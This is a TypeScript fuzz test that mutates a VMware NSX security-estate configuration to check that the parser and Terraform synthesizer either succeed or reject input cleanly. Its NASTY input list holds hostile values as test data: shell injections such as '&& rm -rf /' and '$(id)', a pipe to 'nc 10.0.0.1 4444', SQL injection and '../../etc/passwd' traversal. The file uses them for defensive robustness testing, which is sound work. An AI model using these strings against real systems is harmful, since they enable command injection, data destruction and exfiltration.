import * as fc from "fast-check";
import * as fs from "fs";
import * as path from "path";
import { stringify as toYaml } from "yaml";
import { parseEstate } from "../../app/load-estate";
import { EstateError } from "../../lib/estate/estate-error";
import { LIFECYCLE_HOOKS } from "../../lib/estate/schema";
import { synthesizeEstate } from "../../app/synthesize-estate";
import { estateOf, nsxtManager, nsxvManager } from "../support/estates";
import { tempDir } from "../support/workspace";

/*
 * 10,000 random mutations of a valid estate: each one is either a valid estate that synthesizes,
 * or an EstateError. Never another exception, never a crash, never a hang. In-process (parseEstate
 * and synthesizeEstate, the code main.ts runs), with a fixed seed, printed.
 */

const SEED = 20251125;
const RUNS = 10_000;

const hooks = Object.fromEntries(
  LIFECYCLE_HOOKS.map((hook) => [hook, `printf '%s\\n' "${hook} \${KSV_MANAGER}" >> "$HOOK_LOG"`]),
);

const BASE = estateOf(
  [
    nsxvManager("dc1-nsxv", {
      trafficMode: "monitoring",
      lockTrafficMode: true,
      policy: {
        networkAttack: { action: "ignore" },
        networkActivity: {
          monitor: true,
          categories: ["adware", "other"],
          action: "ignore",
          ignoredRules: ["1:2:3", "10:200:3000"],
        },
        webAddresses: {
          enabled: true,
          action: "ignore",
          categories: ["malicious"],
          trustedAddresses: ["https://intranet.example.local/*", "*.example.com"],
        },
        exclusions: [
          { source: "10.0.5.17", vlan: "none", rule: "default" },
          { source: "10.0.5.0/24", vlan: 12, rule: "do-not-scan" },
          { source: "fd00:1::/64", vlan: "any", rule: "do-not-block" },
        ],
      },
    }),
    nsxtManager("dc2-nsxt", {
      address: "10.20.0.5",
      policy: { networkAttack: { action: "terminate-and-block" }, blockMinutes: 120 },
      clusters: [
        {
          name: "edge (ZRH) #2",
          datastore: "vsan-edge",
          network: "seg-svm",
          ipPool: "svm-pool",
          hosts: ["esx-e1.dc2-nsxt.local"],
        },
      ],
    }),
  ],
  { hooks, ksc: { address: "ksc.example.local", port: 13000 } },
);

/** Values people paste, and values that break parsers, shells and templates. */
const NASTY = [
  "esx-a1; touch /tmp/ksv-x",
  "$(id)",
  "`reboot`",
  "esx-a1\nreboot",
  "${HOME}",
  "%{ if true }x%{ endif }",
  "$${x}",
  "&& rm -rf /",
  "| nc 10.0.0.1 4444",
  "' OR 1=1 --",
  "..\\..\\windows",
  "../../etc/passwd",
  "\u0000",
  "\u202etxt.ovf",
  "😀",
  "Zürich (DC) #2 @ + 1",
  "İstanbul",
  "\uFEFF",
  " ",
  "",
  "~",
  "null",
  "yes",
  "0x1F",
  ".nan",
  "*alias",
  "<<",
  "a".repeat(5000),
  "https://u:p@repo.example.local/a.ovf",
  "https://repo.example.local/a.ovf?x=1&y=2;z",
  "http://[::1]/a.ovf",
  "10.0.0.300",
  "0.0.0.0",
  "255.255.255.255",
  "esx-a1.dc1-nsxv.local.",
  "ESX-A1.DC1-NSXV.LOCAL",
];

/** Values the schema accepts somewhere: mutations that stay valid exercise the synth. */
const PLAUSIBLE = [
  "nsx-v",
  "nsx-t",
  "standard",
  "monitoring",
  "ignore",
  "terminate",
  "terminate-and-block",
  "block",
  "adware",
  "other",
  "advertising",
  "legitimate-software",
  "none",
  "any",
  "default",
  "do-not-scan",
  "do-not-block",
  "1:2:3",
  4094,
  4095,
  "local",
  "pg",
  "stack",
  "estate",
  "terraform_data",
  "null_resource",
  "dc3-nsxv",
  "esx-z9.example.local",
  "10.1.2.3",
  "0.0.0.0/0",
  "::/0",
  "192.168.0.0/16",
  "https://repo.example.local/ksv/other.xml",
  1,
  60,
  10080,
  65535,
  true,
  false,
];

const junk: fc.Arbitrary<unknown> = fc.oneof(
  { weight: 3, arbitrary: fc.constantFrom(...NASTY) },
  { weight: 8, arbitrary: fc.constantFrom(...PLAUSIBLE) },
  fc.string(),
  fc.string({ unit: "binary", maxLength: 20 }),
  fc.integer(),
  fc.double(),
  fc.constantFrom(0, -1, -0, 2 ** 53 + 1, 1e308, NaN, Infinity, -Infinity),
  fc.constantFrom(null, true, false, [], {}),
  fc.array(fc.constantFrom(...NASTY, ...PLAUSIBLE), { maxLength: 3 }),
  fc.dictionary(fc.string({ maxLength: 8 }), fc.constantFrom(...NASTY, ...PLAUSIBLE), {
    maxKeys: 3,
  }),
);

const junkKey = fc.oneof(
  fc.constantFrom("password", "hosts", "name", "__proto__", "constructor", "<<", "", " ", "$(id)"),
  fc.string({ maxLength: 12 }),
);

type Op =
  | { kind: "delete"; at: number }
  | { kind: "set"; at: number; value: unknown }
  | { kind: "insert"; at: number; key: string; value: unknown }
  | { kind: "duplicate"; at: number; index: number }
  | { kind: "swap"; at: number; with: number }
  | { kind: "edit"; at: number; prefix: string; suffix: string };

const at = fc.nat();
const op: fc.Arbitrary<Op> = fc.oneof(
  fc.record({ kind: fc.constant("delete" as const), at }),
  { weight: 3, arbitrary: fc.record({ kind: fc.constant("set" as const), at, value: junk }) },
  fc.record({ kind: fc.constant("insert" as const), at, key: junkKey, value: junk }),
  fc.record({ kind: fc.constant("duplicate" as const), at, index: fc.nat() }),
  // Values moved within the document: reordered lists, names and hosts elsewhere, often valid.
  { weight: 2, arbitrary: fc.record({ kind: fc.constant("swap" as const), at, with: fc.nat() }) },
  fc.record({
    kind: fc.constant("edit" as const),
    at,
    prefix: fc.constantFrom("", " ", "x", "-", "$(", "😀", "\n"),
    suffix: fc.constantFrom("", " ", "x", ".", ";id", "\n", "/33", "-"),
  }),
);

/** After serializing: cut the text short, or splice junk into it (YAML-level damage). */
const textDamage = fc.oneof(
  { weight: 6, arbitrary: fc.constant(null) },
  fc.record({ cut: fc.nat() }),
  fc.record({
    at: fc.nat(),
    insert: fc.constantFrom("\n- ", ": ", "\t", "[", "{", "]", "&a ", "*a", "---\n", "#", "'", '"'),
  }),
);

type Container = Record<string, unknown> | unknown[];
type Slot = { parent: Container; key: string | number };

function slots(root: unknown): Slot[] {
  const out: Slot[] = [];
  const stack: unknown[] = [root];
  while (stack.length > 0) {
    const node = stack.pop();
    if (Array.isArray(node)) {
      node.forEach((child, index) => {
        out.push({ parent: node, key: index });
        stack.push(child);
      });
    } else if (node && typeof node === "object") {
      for (const [key, child] of Object.entries(node)) {
        out.push({ parent: node as Record<string, unknown>, key });
        stack.push(child);
      }
    }
  }
  return out;
}

function containers(root: unknown): Container[] {
  return [
    root as Container,
    ...slots(root)
      .map((s) => get(s))
      .filter(isContainer),
  ];
}

const isContainer = (v: unknown): v is Container => typeof v === "object" && v !== null;
const get = (s: Slot) => (s.parent as Record<string | number, unknown>)[s.key];
const put = (s: Slot, value: unknown) => {
  (s.parent as Record<string | number, unknown>)[s.key] = value;
};

function apply(doc: unknown, mutation: Op): void {
  const all = slots(doc);
  if (mutation.kind === "insert") {
    const targets = containers(doc);
    const target = targets[mutation.at % targets.length];
    if (Array.isArray(target)) target.push(mutation.value);
    else
      Object.defineProperty(target, mutation.key, {
        value: mutation.value,
        enumerable: true,
        configurable: true,
        writable: true,
      });
    return;
  }
  if (all.length === 0) return;
  const slot = all[mutation.at % all.length];
  switch (mutation.kind) {
    case "delete":
      if (Array.isArray(slot.parent)) slot.parent.splice(slot.key as number, 1);
      else delete slot.parent[slot.key as string];
      return;
    case "set":
      put(slot, structuredClone(mutation.value));
      return;
    case "duplicate": {
      const lists = all
        .map(get)
        .filter(Array.isArray)
        .filter((l) => l.length > 0);
      if (lists.length === 0) return;
      const list = lists[mutation.at % lists.length];
      list.push(structuredClone(list[mutation.index % list.length]));
      return;
    }
    case "swap": {
      // Leaves only: swapping a mapping with one of its own entries would make a cycle.
      const other = all[mutation.with % all.length];
      const value = get(slot);
      if (isContainer(value) || isContainer(get(other))) return;
      put(slot, get(other));
      put(other, value);
      return;
    }
    case "edit": {
      const value = get(slot);
      if (typeof value === "string") put(slot, `${mutation.prefix}${value}${mutation.suffix}`);
      return;
    }
  }
}

/**
 * Template syntax in a synthesized file that is not our own: `${self.…}`, `${each.…}`, the SVM
 * inventory locals (`${local.svm_clusters}`, `${local.svm_hosts}`) and KSV_HOSTS's join.
 */
const OWN_TEMPLATES = [
  /^\$\{(self|each)\.[a-z_.]+\}$/,
  /^\$\{local\.svm_(clusters|hosts)\}$/,
  /^\$\{join\(",", local\.svm_hosts\[each\.key\]\)\}$/,
];

function foreignTemplates(json: string): string[] {
  const unescaped = JSON.parse(json, (_key, value: unknown) =>
    typeof value === "string" ? value.replace(/\$\$\{/g, "").replace(/%%\{/g, "") : value,
  );
  const strings: string[] = [];
  JSON.stringify(unescaped, (_key, value: unknown) => {
    if (typeof value === "string") strings.push(value);
    return value;
  });
  return strings
    .flatMap((text) => text.match(/\$\{[^}]*\}?|%\{/g) ?? [])
    .filter((ref) => !OWN_TEMPLATES.some((own) => own.test(ref)));
}

describe("random mutations of a valid estate", () => {
  test(`${RUNS} runs (seed ${SEED}): a valid synth or a clean EstateError, nothing else`, () => {
    const outdir = path.join(tempDir("property"), "cdktf.out");
    const synthesized = new Set<string>();
    const tally = { valid: 0, synthesized: 0, rejected: 0 };
    const started = Date.now();

    fc.assert(
      fc.property(
        fc.array(op, { minLength: 1, maxLength: 3 }),
        fc.constantFrom("yaml", "json"),
        textDamage,
        (mutations, format, damage) => {
          const doc = structuredClone(BASE) as unknown;
          for (const mutation of mutations) apply(doc, mutation);
          let text = format === "json" ? (JSON.stringify(doc, null, 2) ?? "") : toYaml(doc);
          if (damage && "cut" in damage) text = text.slice(0, damage.cut % (text.length + 1));
          if (damage && "insert" in damage) {
            const i = damage.at % (text.length + 1);
            text = text.slice(0, i) + damage.insert + text.slice(i);
          }

          let loaded;
          try {
            loaded = parseEstate(text, `mutated.${format}`);
          } catch (error) {
            if (!(error instanceof EstateError)) throw error;
            // Clean: one line per problem, each saying something; no stack frames.
            const unclear = error.problems.filter(
              (p) => p.message === "" || /[\n\r]/.test(p.message),
            );
            if (unclear.length > 0 || /\bat .*\.(ts|js):\d+/.test(error.message)) {
              throw new Error(`unclear EstateError:\n${error.message}`, { cause: error });
            }
            tally.rejected++;
            return;
          }
          tally.valid++;
          // A valid estate synthesizes. Identical estates synthesize identically: once is enough.
          const key = JSON.stringify(loaded.estate);
          if (synthesized.has(key)) return;
          synthesized.add(key);
          fs.rmSync(outdir, { recursive: true, force: true });
          const stacks = synthesizeEstate(loaded.estate, outdir);
          expect(stacks.map((s) => s.name)).toEqual(loaded.estate.managers.map((m) => m.name));
          for (const stack of stacks) {
            const json = fs.readFileSync(stack.file, "utf8");
            expect(foreignTemplates(json)).toEqual([]);
          }
          tally.synthesized++;
        },
      ),
      { seed: SEED, numRuns: RUNS },
    );

    const seconds = ((Date.now() - started) / 1000).toFixed(1);
    console.log(
      `property: seed ${SEED}, ${RUNS} runs in ${seconds} s: ${tally.rejected} EstateError, ${tally.valid} valid (${tally.synthesized} distinct, synthesized)`,
    );
    // The mutations reach both sides, or the property says little.
    expect(tally.rejected).toBeGreaterThan(RUNS / 4);
    expect(tally.valid).toBeGreaterThan(RUNS / 20);
    expect(tally.synthesized).toBeGreaterThan(RUNS / 40);
  });
});
